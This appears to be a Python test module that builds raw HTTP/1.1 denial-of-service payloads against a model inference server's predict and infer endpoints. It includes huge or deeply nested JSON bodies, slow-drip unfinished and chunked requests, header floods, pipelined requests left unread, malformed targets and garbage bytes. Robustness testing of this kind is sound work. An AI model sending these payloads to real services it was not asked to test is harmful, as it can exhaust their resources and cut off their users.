"""Payloads of attacks on the model server over HTTP/1.1: bytes, and the next step. Pure."""

from __future__ import annotations

import json
import struct
from collections.abc import Callable
from dataclasses import dataclass
from enum import StrEnum

PREDICT, INFER = b"/v1/models/m:predict", b"/v2/models/m/infer"
MIB = 1 << 20
MAX_BODY_BYTES = 8 * MIB
"""The server's default bound of a body."""
READ_BYTES = 256 * 1024
"""Size of one read of the server."""


class Then(StrEnum):
    """Action of a client after it has sent its bytes."""

    READ = "read"
    """Read one answer and send again: as fast as the server allows."""
    STAY = "stay"
    """Read nothing and stay."""
    DRIP = "drip"
    """Send one more byte per second."""
    LEAVE = "leave"
    """Close the connection at once, and begin again."""


@dataclass(frozen=True, slots=True)
class Payload:
    """Bytes of one connection."""

    data: bytes
    then: Then = Then.READ


def post(path: bytes, body: bytes, *, length: int | None = None, more: bytes = b"") -> bytes:
    """Return a POST; a `length` above the body's leaves it unfinished."""
    size = len(body) if length is None else length
    head = b"POST %s HTTP/1.1\r\nhost: x\r\ncontent-length: %d\r\n%s\r\n" % (path, size, more)
    return head + body


def chunked(path: bytes, body: bytes, size: int = 1 << 20) -> bytes:
    """Return a POST in chunks of this size, without the last one."""
    head = b"POST %s HTTP/1.1\r\nhost: x\r\ntransfer-encoding: chunked\r\n\r\n" % path
    parts = (body[at : at + size] for at in range(0, len(body), size))
    return head + b"".join(b"%x\r\n%s\r\n" % (len(part), part) for part in parts)


def numbers_json(elements: int, items: int) -> bytes:
    """Return the largest valid body in typed JSON."""
    row = b"[" + b",".join([b"0.12345"] * elements) + b"]"
    return b'{"instances":[' + b",".join([row] * items) + b"]}"


def numbers_v2(elements: int, items: int) -> bytes:
    """Return the largest valid body of the Open Inference Protocol in JSON."""
    head = b'{"inputs":[{"name":"x","shape":[%d,%d],"datatype":"FP64","data":[' % (items, elements)
    return head + b",".join([b"0.12345"] * elements * items) + b"]}]}"


def numbers_binary(elements: int, items: int) -> bytes:
    """Return the largest valid request with binary tensors."""
    data = struct.pack("<d", 0.5) * elements * items
    described = {
        "name": "x",
        "shape": [items, elements],
        "datatype": "FP64",
        "parameters": {"binary_data_size": len(data)},
    }
    head = json.dumps({"inputs": [described]}).encode()
    more = b"inference-header-content-length: %d\r\n" % len(head)
    return post(INFER, head + data, more=more)


def _lists() -> bytes:
    return b'{"instances":[' + b"[]," * 2_700_000 + b"[]]}"


def _tensor(data: bytes) -> bytes:
    return b'{"inputs":[{"name":"x","shape":[4,150528],"datatype":"FP64","data":[' + data


def _binary_head(_: int, __: int) -> Payload:
    """Return a request whose JSON head is as long as the body may be."""
    body = b'{"inputs":[' + b"{}," * 2_000_000 + b"{}]}"
    more = b"inference-header-content-length: %d\r\n" % len(body)
    return Payload(post(INFER, body, more=more))


def _get(path: bytes) -> bytes:
    return b"GET %s HTTP/1.1\r\nhost: x\r\n\r\n" % path


_UNPARSABLE = (
    b"GET http://[ HTTP/1.1\r\n",
    b"CONNECT a:1 HTTP/1.1\r\n",
    b"GET http://a:99999999/ ",
)
_SMALL = post(PREDICT, b'{"instances":[[1,2,3,4]]}')

PAYLOADS: dict[str, Callable[[int, int], Payload]] = {
    "v1 numbers": lambda n, items: Payload(post(PREDICT, numbers_json(n, items))),
    "v2 numbers": lambda n, items: Payload(post(INFER, numbers_v2(n, items))),
    "v2 binary": lambda n, items: Payload(numbers_binary(n, items)),
    "v2 binary, long head": _binary_head,
    "v1 lists": lambda _, __: Payload(post(PREDICT, _lists())),
    "v1 deep lists": lambda _, __: Payload(post(PREDICT, b'{"instances":' + b"[" * 1_000_000)),
    "v1 strings": lambda _, __: Payload(
        post(PREDICT, b'{"instances":["' + b"\\u0061" * 1_000_000 + b'"]}')
    ),
    "v2 objects": lambda _, __: Payload(post(INFER, b'{"inputs":[' + b"{}," * 2_700_000 + b"{}]}")),
    "v2 keys": lambda _, __: Payload(
        post(INFER, b"{" + b",".join(b'"%d":1' % one for one in range(700_000)) + b"}")
    ),
    "v2 empty keys": lambda _, __: Payload(post(INFER, b"{" + b'"":1,' * 1_500_000 + b'"":1}')),
    "v1 lists of 64 KiB": lambda _, __: Payload(
        post(PREDICT, b'{"instances":[' + b"[]," * 21_000 + b"[]]}")
    ),
    "v2 many numbers": lambda _, __: Payload(post(INFER, _tensor(b"1.5," * 2_000_000 + b"1]}]}"))),
    "v1 spaces": lambda _, __: Payload(post(PREDICT, b" " * (MAX_BODY_BYTES - 1) + b"x")),
    "unfinished": lambda _, __: Payload(
        post(PREDICT, _lists()[: 7 * MIB], length=MAX_BODY_BYTES), Then.DRIP
    ),
    "unfinished, small": lambda _, __: Payload(
        post(PREDICT, b" " * 60_000, length=64_000), Then.DRIP
    ),
    "chunks": lambda _, __: Payload(chunked(PREDICT, _lists()[: 7 * MIB]), Then.DRIP),
    "chunks of a byte": lambda _, __: Payload(
        chunked(PREDICT, _lists()[: 1 << 17], size=1), Then.DRIP
    ),
    "head": lambda _, __: Payload(
        b"GET / HTTP/1.1\r\nhost: x\r\n" + b"a: b\r\n" * 10_000, Then.STAY
    ),
    "pipeline": lambda _, __: Payload(_get(b"/v2") * (READ_BYTES // 30), Then.STAY),
    "pipeline of inferences": lambda _, __: Payload(_SMALL * (READ_BYTES // 100), Then.STAY),
    "unread pages": lambda _, __: Payload(_get(b"/openapi.json") * 30, Then.STAY),
    "unread metrics": lambda _, __: Payload(_get(b"/metrics") * 30, Then.STAY),
    "unparsable targets": lambda _, __: Payload(
        b"".join(_SMALL * 3 + bad + b"host: x\r\n\r\n" for bad in _UNPARSABLE)
    ),
    "garbage": lambda _, __: Payload(b"\x16\x03\x01\x02" + b"\xff" * READ_BYTES),
}
"""Payloads by name, for a model with this many numbers per item and this many items per batch."""
